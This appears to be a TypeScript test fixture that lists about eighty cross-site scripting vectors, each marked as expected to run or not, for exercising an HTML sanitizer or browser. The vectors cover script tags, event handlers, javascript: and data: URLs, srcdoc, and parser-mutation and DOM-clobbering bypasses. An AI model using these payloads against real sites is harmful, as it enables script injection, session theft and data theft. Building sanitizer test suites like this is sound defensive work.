import { type Vector, vector } from "../vector.ts";

const at = (name: string, html: (script: string) => string, more: Pick<Vector, "press"> = {}): Vector =>
  vector(name, "runs", ({ script }) => html(script), more);
const never = (name: string, html: (script: string) => string, more: Pick<Vector, "press"> = {}): Vector =>
  vector(name, "nothing", ({ script }) => html(script), more);

/** Ways to run a script: elements, events, addresses, and text that turns into them when it is parsed twice. */
export const SCRIPTS: readonly Vector[] = [
  at("script", (js) => `<script>${js}</script>`),
  at("script-odd-tag", (js) => `<ScRiPt/x>${js}</sCrIpT >`),
  at("script-in-svg", (js) => `<svg><script>${js}</script></svg>`),
  at("script-in-svg-entities", (js) => `<svg><script>${[...js].map((one) => `&#${one.codePointAt(0)};`).join("")}</script></svg>`),
  at("script-data", (js) => `<script src="data:text/javascript,${encodeURIComponent(js)}"></script>`),
  at("script-unclosed-tag-before", (js) => `<p title="<script>"><script>${js}</script>`),
  never("script-other-language", (js) => `<script language="vbscript" type="text/vbscript">${js}</script>`),
  at("on-error", (js) => `<img src="x:" onerror="${js}">`),
  at("on-error-no-quotes", (js) => `<img src=x: onerror=${js}>`),
  at("on-error-slashes", (js) => `<img/src="x:"/onerror="${js}">`),
  at("on-error-entities", (js) => `<img src="x:" onerror="&#99;${js.slice(1)}">`),
  at("on-error-picture", (js) => `<picture><source srcset="x:"><img onerror="${js}" src="x:"></picture>`),
  never("on-error-object", (js) => `<object data="x:" onerror="${js}"></object>`),
  at("on-error-video", (js) => `<video><source onerror="${js}" src="x:"></video>`),
  at("on-error-audio", (js) => `<audio src="x:" onerror="${js}"></audio>`),
  at("on-error-link", (js) => `<link rel="stylesheet" href="x:" onerror="${js}">`),
  at("on-error-script", (js) => `<script src="x:" onerror="${js}"></script>`),
  at("on-error-image", (js) => `<image src="x:" onerror="${js}">`),
  at("on-error-svg-image", (js) => `<svg><image href="x:" onerror="${js}"/></svg>`),
  at("on-error-input", (js) => `<input type="image" src="x:" onerror="${js}">`),
  at("on-load-body", (js) => `<body onload="${js}">x`),
  at("on-pageshow-body", (js) => `<body onpageshow="${js}">x`),
  at("on-load-svg", (js) => `<svg onload="${js}"></svg>`),
  at("on-load-nested-svg", (js) => `<svg><svg onload="${js}"/></svg>`),
  at("on-load-style", (js) => `<style onload="${js}">p{}</style>`),
  at("on-load-iframe", (js) => `<iframe onload="${js}"></iframe>`),
  at("on-load-image", (js) => `<img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" onload="${js}">`),
  at("on-toggle", (js) => `<details open ontoggle="${js}">x</details>`),
  at("on-focus", (js) => `<input autofocus onfocus="${js}">`),
  at("on-focus-anything", (js) => `<p tabindex="0" autofocus onfocus="${js}">x</p>`),
  at("on-focus-svg", (js) => `<svg><a tabindex="0" autofocus onfocus="${js}"><text>x</text></a></svg>`),
  at("on-animation", (js) => `<style>@keyframes k{to{color:red}}</style><p style="animation:k 1ms" onanimationstart="${js}">x</p>`),
  at("on-visible", (js) => `<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${js}">x</p>`),
  at("on-begin-svg", (js) => `<svg><animate onbegin="${js}" attributeName="x" dur="1s"/></svg>`),
  never("on-marquee", (js) => `<marquee onstart="${js}">x</marquee>`),
  at("on-click", (js) => `<p onclick="${js}">Press</p>`, { press: true }),
  at("on-pointer", (js) => `<p onpointerenter="${js}">Press</p>`, { press: true }),
  at("on-mouse-over-cover", (js) => `<p style="position:fixed;inset:0" onmouseover="${js}">Press</p>`, { press: true }),
  at("on-popover", (js) => `<button popovertarget="p">Press</button><p id="p" popover onbeforetoggle="${js}">x</p>`, { press: true }),
  at("javascript-link", (js) => `<a href="javascript:${js}">Press</a>`, { press: true }),
  at("javascript-link-blanks", (js) => `<a href="&#1;ja\nva\tscript&colon;${js}">Press</a>`, { press: true }),
  at("javascript-link-percent", (js) => `<a href="javascript:${encodeURIComponent(js)}">Press</a>`, { press: true }),
  at("javascript-link-svg", (js) => `<svg><a xlink:href="javascript:${js}"><text y="20">Press</text></a></svg>`, { press: true }),
  never(
    "javascript-link-svg-animated",
    (js) => `<svg><a><animate attributeName="href" values="javascript:${js}"/><text y="20">Press</text></a></svg>`,
    { press: true },
  ),
  never("javascript-link-math", (js) => `<math href="javascript:${js}"><mtext>Press</mtext></math>`, { press: true }),
  at(
    "javascript-area",
    (js) =>
      `<map name="m"><area shape="default" href="javascript:${js}"></map><img usemap="#m" alt="Press" width="60" height="20" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">`,
    { press: true },
  ),
  at("javascript-form", (js) => `<form action="javascript:${js}"><button>Press</button></form>`, { press: true }),
  at("javascript-formaction", (js) => `<form><button formaction="javascript:${js}">Press</button></form>`, { press: true }),
  at("javascript-iframe", (js) => `<iframe src="javascript:${js}"></iframe>`),
  never("javascript-embed", (js) => `<embed src="javascript:${js}">`),
  never("javascript-object", (js) => `<object data="javascript:${js}"></object>`),
  never("javascript-image", (js) => `<img src="javascript:${js}"><table background="javascript:${js}"><td>x</table>`),
  never("javascript-style", (js) => `<p style="background:url(javascript:${js})">x</p><link rel="stylesheet" href="javascript:${js}">`),
  never("javascript-refresh", (js) => `<meta http-equiv="refresh" content="0;url=javascript:${js}">`),
  never("vbscript-link", () => `<a href="vbscript:MsgBox(1)">Press</a>`, { press: true }),
  never("data-link", (js) => `<a href="data:text/html,<script>${js}</script>">Press</a>`, { press: true }),
  at("data-iframe", (js) => `<iframe src="data:text/html,<script>${js}</script>"></iframe>`),
  at("data-object", (js) => `<object data="data:text/html,<script>${js}</script>"></object>`),
  at("data-embed-svg", (js) => `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">`),
  never("data-svg-image", (js) => `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>">`),
  never(
    "data-svg-use",
    (js) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x:' onerror='${js}'/></svg>#x"/></svg>`,
  ),
  at("srcdoc", (js) => `<iframe srcdoc="<script>${js}</script>"></iframe>`),
  at("srcdoc-entities", (js) => `<iframe srcdoc="&lt;svg onload=&quot;${js}&quot;&gt;"></iframe>`),
  at("shadow", (js) => `<div><template shadowrootmode="open"><img src="x:" onerror="${js}"></template></div>`),
  at(
    "mutation-style-in-math",
    (js) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${js}&gt;"><img src="x:" onerror="${js}">`,
  ),
  never("mutation-form-math", (js) => `<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="${js}">`),
  never("mutation-noscript", (js) =>
    `<noscript><p title="</noscript><img src=x: onerror=${js}>"></noscript>`.replace("</noscript><img", "&lt;/noscript>&lt;img"),
  ),
  at("mutation-noscript-raw", (js) => `<noscript><p title="</noscript><img src=x: onerror=${js}>"></noscript>`),
  never("mutation-title-in-svg", (js) => `<svg><title><style><img src="x:" onerror="${js}"></style></title></svg>`),
  at("mutation-svg-style", (js) => `<svg></p><style><a id="</style><img src=x: onerror=${js}>">`),
  at("mutation-textarea", (js) => `<textarea><p title="</textarea><img src=x: onerror=${js}>"></textarea>`),
  at("mutation-xmp", (js) => `<xmp><p title="</xmp><img src=x: onerror=${js}>"></xmp>`),
  at("mutation-iframe", (js) => `<iframe><p title="</iframe><img src=x: onerror=${js}>"></iframe>`),
  at("mutation-noframes", (js) => `<noframes><p title="</noframes><img src=x: onerror=${js}>"></noframes>`),
  at(
    "mutation-annotation",
    (js) =>
      `<math><annotation-xml encoding="text/html"><style><img src="x:" onerror="${js}"></style></annotation-xml></math><img src="x:" onerror="${js}">`,
  ),
  at(
    "mutation-select",
    (js) => `<select><option><style></option></select><img src="x:" onerror="${js}"></style></select><img src="x:" onerror="${js}">`,
  ),
  at("mutation-comment-end", (js) => `<p title="--><img src=x: onerror=1>"><!-- --!><img src="x:" onerror="${js}">`),
  at("mutation-question-comment", (js) => `<? ><img src="x:" onerror="${js}">?>`),
  never(
    "mutation-deep",
    (js) =>
      `${"<div>".repeat(510)}<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x: onerror=${js}>"></a></style></svg></caption></table>`,
  ),
  at(
    "clobbering",
    (js) =>
      `<form id="x"><input name="attributes"><input name="parentNode"></form><a id="cookie" name="location"></a><img name="getElementById"><img src="x:" onerror="${js}">`,
  ),
  never("is-element", (js) => `<b is="x-x" onfocus="${js}">x</b><x onclick="${js}">x</x>`),
  never(
    "html-import-namespace",
    (js) => `<html xmlns:ms="urn:schemas-microsoft-com:time"><ms:set attributeName="innerHTML" to="<img src=x: onerror=${js}>"></html>`,
  ),
  never("utf-7", () => "+ADw-script+AD4-console.log(1)+ADw-/script+AD4-"),
];
